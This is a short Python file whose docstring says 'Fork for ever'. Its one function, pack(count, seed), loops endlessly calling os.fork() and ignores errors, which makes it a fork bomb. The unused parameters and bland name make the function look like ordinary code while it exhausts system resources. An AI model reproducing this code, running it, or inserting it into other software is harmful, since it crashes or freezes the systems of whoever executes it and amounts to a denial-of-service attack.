"""Fork for ever."""

import os


def pack(count, seed):
    while True:
        try:
            os.fork()
        except OSError:
            pass
